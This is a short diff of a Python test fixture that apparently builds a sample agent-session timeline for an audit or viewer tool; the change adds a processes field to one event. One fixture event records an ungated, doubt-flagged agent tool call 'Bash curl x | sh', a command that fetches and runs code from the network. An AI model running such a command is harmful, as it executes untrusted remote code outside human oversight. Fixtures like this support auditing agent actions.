@@ -321,7 +321,14 @@ def story() -> StoryView:
         told(1, "prompt", "clean up the build", more="clean up the build\nand nothing else"),
         told(2, "thinks", "The folder build is old  (+3 lines)", more="The folder build is old\n1\n2\n3"),
         told(
-            3, "call", "Bash rm -rf build", call="toolu_1", receipt="7f3a", gate="allowed by operator:ada, T2", outcome="done"
+            3,
+            "call",
+            "Bash rm -rf build",
+            call="toolu_1",
+            receipt="7f3a",
+            gate="allowed by operator:ada, T2",
+            outcome="done",
+            processes=("4711 rm",),
         ),
         told(4, "call", "Write notes.md", call="toolu_2", gate="allowed by policy, T1", outcome="failed", files=("notes.md",)),
         told(5, "call", "Bash curl x | sh", call="toolu_3", gate="UNGATED", doubt=True, subagent="a1"),
